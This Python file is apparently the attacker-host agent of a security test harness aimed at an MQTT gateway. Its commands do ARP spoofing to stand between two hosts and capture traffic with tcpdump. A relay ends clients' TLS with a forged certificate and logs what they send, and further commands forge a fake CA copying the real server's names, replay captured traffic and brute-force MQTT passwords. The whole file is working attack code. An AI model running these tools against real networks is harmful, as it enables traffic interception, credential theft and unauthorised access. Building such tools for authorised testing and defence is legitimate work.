# SPDX-License-Identifier: Apache-2.0
"""What runs on the attacker's host. One file, Python's standard library; `forge` needs python3-cryptography too.

- ``agent.py on-path A B``: tell A that B's address is here, and B that A's is (ARP spoofing), until SIGTERM.
- ``agent.py capture FILE FILTER``: write what passes by to a pcap file, until SIGTERM.
- ``agent.py relay PORT HOST:PORT FOLDER [--tls]``: pass connections on and keep what clients send; with ``--tls`` end
  the client's TLS here, with the certificate in FOLDER.
- ``agent.py forge FOLDER HOST:PORT``: make a false CA, and a certificate with the names of the true server.
- ``agent.py replay HOST:PORT``: send recorded pieces (JSON on standard input, base64) and print what comes back.
- ``agent.py guess HOST:PORT``: try passwords (JSON on standard input: user, passwords) and print the answers.

The services tell systemd when they are ready, so whoever starts them need not wait.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import signal
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

INTERFACE = "eth0"
ETH_ARP = 0x0806
ARP_REQUEST, ARP_REPLY = 1, 2
BROADCAST = b"\xff" * 6
#: Linux takes a second word on the same address only a second after the first (locktime, arp(7)).
SPOOF_EVERY_S = 0.3
PATIENCE_S = 5.0


def ready() -> None:
    """Tell systemd that the service does its work from now on (sd_notify(3))."""
    address = os.environ.get("NOTIFY_SOCKET", "")
    if address:
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as notify:
            notify.connect("\0" + address[1:] if address.startswith("@") else address)
            notify.sendall(b"READY=1")


def until_told() -> threading.Event:
    """Return an event that SIGTERM sets."""
    end = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: end.set())
    return end


def endpoint(text: str) -> tuple[str, int]:
    """Read HOST:PORT."""
    host, _, port = text.rpartition(":")
    return host, int(port)


# On the path


def arp(kind: int, sender: tuple[bytes, str], target: tuple[bytes, str]) -> bytes:
    """Return an Ethernet frame with an ARP packet (RFC 826)."""
    own = Path(f"/sys/class/net/{INTERFACE}/address").read_text(encoding="ascii").strip()
    head = target[0] + bytes.fromhex(own.replace(":", "")) + struct.pack(">H", ETH_ARP)
    packet = struct.pack(">HHBBH", 1, 0x0800, 6, 4, kind)
    packet += sender[0] + socket.inet_aton(sender[1])
    packet += (bytes(6) if kind == ARP_REQUEST else target[0]) + socket.inet_aton(target[1])
    return head + packet


def own_hardware() -> bytes:
    """Return this host's Ethernet address."""
    return bytes.fromhex(Path(f"/sys/class/net/{INTERFACE}/address").read_text(encoding="ascii").replace(":", ""))


def hardware_of(wire: socket.socket, address: str) -> bytes:
    """Ask who has an address, from no address at all (RFC 5227 2.1.1), so that nobody learns ours by it."""
    deadline = time.monotonic() + PATIENCE_S
    while time.monotonic() < deadline:
        wire.send(arp(ARP_REQUEST, (own_hardware(), "0.0.0.0"), (BROADCAST, address)))  # noqa: S104 - means nobody here
        wire.settimeout(0.5)
        with contextlib.suppress(TimeoutError):
            while True:
                frame = wire.recv(2048)
                if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\x00\x02":
                    hardware, claimed = frame[22:28], socket.inet_ntoa(frame[28:32])
                    if claimed == address:
                        return hardware
    raise SystemExit(f"nobody answers for {address}")


def on_path(one: str, other: str) -> int:
    """Stand between two hosts until told to stop; then tell them the truth."""
    end = until_told()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_ARP)) as wire:
        wire.bind((INTERFACE, ETH_ARP))
        true = {address: hardware_of(wire, address) for address in (one, other)}
        pairs = ((one, other), (other, one))
        told = False
        while True:
            for address, victim in pairs:
                wire.send(arp(ARP_REPLY, (own_hardware(), address), (true[victim], victim)))
            if not told:
                ready()
                told = True
            if end.wait(SPOOF_EVERY_S):
                break
        # The kernel of the victim ignores a second word within its locktime.
        for _ in range(5):
            for address, victim in pairs:
                wire.send(arp(ARP_REPLY, (true[address], address), (true[victim], victim)))
            time.sleep(SPOOF_EVERY_S)
    return 0


def capture(target: str, expression: str) -> int:
    """Capture until told to stop."""
    end = until_told()
    tcpdump = subprocess.Popen(
        ["tcpdump", "-i", INTERFACE, "--immediate-mode", "-U", "-s", "0", "-Z", "root", "-w", target, expression],
        stderr=subprocess.PIPE,
        text=True,
    )
    if tcpdump.stderr is None:
        return 1
    for line in tcpdump.stderr:
        if "listening on" in line:
            break
    else:
        return tcpdump.wait() or 1
    ready()
    end.wait()
    tcpdump.send_signal(signal.SIGINT)
    return tcpdump.wait()


# In the middle


class Relay:
    """Passes connections on and notes what it saw.

    `events.jsonl` in its folder gets a line for each event: {"event": "connection" | "refused" | "handshake" | "data" |
    "end", "connection": number, ...}; `client-N.json` gets the pieces that client N sent, in base64.
    """

    def __init__(self, target: tuple[str, int], folder: Path, *, tls: bool) -> None:
        self.target = target
        self.folder = folder
        self.tls = tls
        self._lock = threading.Lock()

    def note(self, connection: int, event: str, **more: Any) -> None:
        """Write down an event."""
        with self._lock, (self.folder / "events.jsonl").open("a", encoding="utf-8") as file:
            file.write(json.dumps({"event": event, "connection": connection, **more}) + "\n")

    def serve(self, number: int, client: socket.socket, peer: str) -> None:
        """Serve one connection until one side ends it."""
        self.note(number, "connection", peer=peer)
        client.settimeout(60)
        try:
            upstream = socket.create_connection(self.target, timeout=PATIENCE_S)
        except OSError as exc:
            self.note(number, "end", reason=f"the server does not answer: {exc}")
            client.close()
            return
        if self.tls:
            try:
                client = self._server_context().wrap_socket(client, server_side=True)
                # TLS 1.3: a client that refuses us says so only after its side of the handshake; its first
                # application data shows that it does trust us.
                first = client.recv(65536)
                if not first:
                    raise ConnectionError("closed right after the handshake")
            except (OSError, ssl.SSLError) as exc:
                self.note(number, "refused", reason=str(exc))
                client.close()
                upstream.close()
                return
            self.note(number, "handshake", version=client.version())
            upstream = self._client_context().wrap_socket(upstream)
            self._keep(number, first)
            with contextlib.suppress(OSError):
                upstream.sendall(first)
        answers = threading.Thread(target=self._pump, args=(upstream, client), daemon=True)
        answers.start()
        with contextlib.suppress(OSError):
            while data := client.recv(65536):
                self._keep(number, data)
                upstream.sendall(data)
        for side in (upstream, client):
            with contextlib.suppress(OSError):
                side.shutdown(socket.SHUT_RDWR)
            side.close()
        answers.join(PATIENCE_S)
        self.note(number, "end", reason="closed")

    @staticmethod
    def _pump(source: socket.socket, sink: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while data := source.recv(65536):
                sink.sendall(data)
        with contextlib.suppress(OSError):
            sink.shutdown(socket.SHUT_RDWR)

    def _keep(self, number: int, data: bytes) -> None:
        self.note(number, "data", bytes=len(data))
        path = self.folder / f"client-{number}.json"
        pieces = json.loads(path.read_text(encoding="ascii")) if path.exists() else []
        path.write_text(json.dumps([*pieces, base64.b64encode(data).decode()]), encoding="ascii")

    def _server_context(self) -> ssl.SSLContext:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(self.folder / "chain.pem", self.folder / "key.pem")
        return context

    @staticmethod
    def _client_context() -> ssl.SSLContext:
        # An attacker does not care whom he talks to.
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        return context


def relay(port: int, target: tuple[str, int], folder: Path, *, tls: bool) -> int:
    """Relay until told to stop."""
    end = until_told()
    folder.mkdir(parents=True, exist_ok=True)
    middle = Relay(target, folder, tls=tls)
    with socket.create_server(("", port)) as server:
        server.settimeout(0.2)
        ready()
        number = 0
        while not end.is_set():
            try:
                client, peer = server.accept()
            except TimeoutError:
                continue
            number += 1
            threading.Thread(target=middle.serve, args=(number, client, peer[0]), daemon=True).start()
    return 0


def forge(folder: Path, target: tuple[str, int]) -> int:
    """Make a CA that looks like the true one and is not, and a certificate with all the names of the true server."""
    from cryptography import x509  # noqa: PLC0415 - the other commands do without
    from cryptography.hazmat.primitives import hashes, serialization  # noqa: PLC0415
    from cryptography.hazmat.primitives.asymmetric import ec  # noqa: PLC0415
    from cryptography.x509.oid import ExtendedKeyUsageOID  # noqa: PLC0415

    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection(target, timeout=PATIENCE_S) as plain, context.wrap_socket(plain) as session:
        true = x509.load_der_x509_certificate(session.getpeercert(binary_form=True) or b"")
    now = datetime.now(UTC)
    ca_key, key = ec.generate_private_key(ec.SECP256R1()), ec.generate_private_key(ec.SECP256R1())

    def builder(subject: x509.Name, public: Any, *, ca: bool) -> x509.CertificateBuilder:
        return (
            x509.CertificateBuilder()
            .subject_name(subject)
            .issuer_name(true.issuer)
            .public_key(public)
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - timedelta(hours=1))
            .not_valid_after(now + timedelta(days=1))
            .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
        )

    ca = builder(true.issuer, ca_key.public_key(), ca=True).sign(ca_key, hashes.SHA256())
    leaf = builder(true.subject, key.public_key(), ca=False)
    names = true.extensions.get_extension_for_class(x509.SubjectAlternativeName)
    leaf = leaf.add_extension(names.value, critical=False).add_extension(
        x509.ExtendedKeyUsage([ExtendedKeyUsageOID.SERVER_AUTH]), critical=False
    )
    certificate = leaf.sign(ca_key, hashes.SHA256())
    folder.mkdir(parents=True, exist_ok=True)
    pem = serialization.Encoding.PEM
    (folder / "ca.pem").write_bytes(ca.public_bytes(pem))
    (folder / "chain.pem").write_bytes(certificate.public_bytes(pem) + ca.public_bytes(pem))
    (folder / "key.pem").write_bytes(
        key.private_bytes(pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    return 0


# Straight at the gateway


def replay(target: tuple[str, int]) -> int:
    """Send recorded pieces, each after the answer to the one before."""
    pieces = [base64.b64decode(piece) for piece in json.load(sys.stdin)]
    answer = bytearray()
    end = "open"
    with socket.create_connection(target, timeout=PATIENCE_S) as wire:
        wire.settimeout(1.0)
        for piece in pieces:
            try:
                wire.sendall(piece)
                data = wire.recv(65536)
            except TimeoutError:
                continue
            except OSError as exc:
                end = f"reset: {exc}"
                break
            answer += data
            if not data:
                end = "closed"
                break
    json.dump({"answer": base64.b64encode(answer).decode(), "end": end}, sys.stdout)
    return 0


def guess(target: tuple[str, int]) -> int:
    """Try passwords; print for each the CONNACK's return code (MQTT 3.1.1 3.2.2.3), or -1 where the gateway hung up."""
    order = json.load(sys.stdin)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    answers = []
    for password in order["passwords"]:
        try:
            with socket.create_connection(target, timeout=PATIENCE_S) as plain, context.wrap_socket(plain) as session:
                session.sendall(connect_packet(order["user"], password))
                answer = session.recv(4)
        except OSError:
            answer = b""
        answers.append(answer[3] if answer[:2] == b"\x20\x02" else -1)
    json.dump(answers, sys.stdout)
    return 0


def connect_packet(user: str, password: str) -> bytes:
    """Return an MQTT 3.1.1 CONNECT with user name, password and a clean session (MQTT 3.1.1 3.1)."""

    def text(value: str) -> bytes:
        raw = value.encode()
        return struct.pack(">H", len(raw)) + raw

    body = text("MQTT") + b"\x04\xc2\x00\x3c" + text(user) + text(user) + text(password)
    length, rest = bytearray(), len(body)
    while True:
        length.append(rest % 128 | (0x80 if rest >= 128 else 0))  # noqa: PLR2004 - seven bits a byte
        rest //= 128
        if not rest:
            return b"\x10" + bytes(length) + body


def main(argv: list[str]) -> int:
    """Run one command."""
    command, *args = argv
    if command == "on-path":
        return on_path(args[0], args[1])
    if command == "capture":
        return capture(args[0], args[1])
    if command == "relay":
        return relay(int(args[0]), endpoint(args[1]), Path(args[2]), tls="--tls" in args[3:])
    if command == "forge":
        return forge(Path(args[0]), endpoint(args[1]))
    if command == "replay":
        return replay(endpoint(args[0]))
    if command == "guess":
        return guess(endpoint(args[0]))
    raise SystemExit(f"no such command: {command}")


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
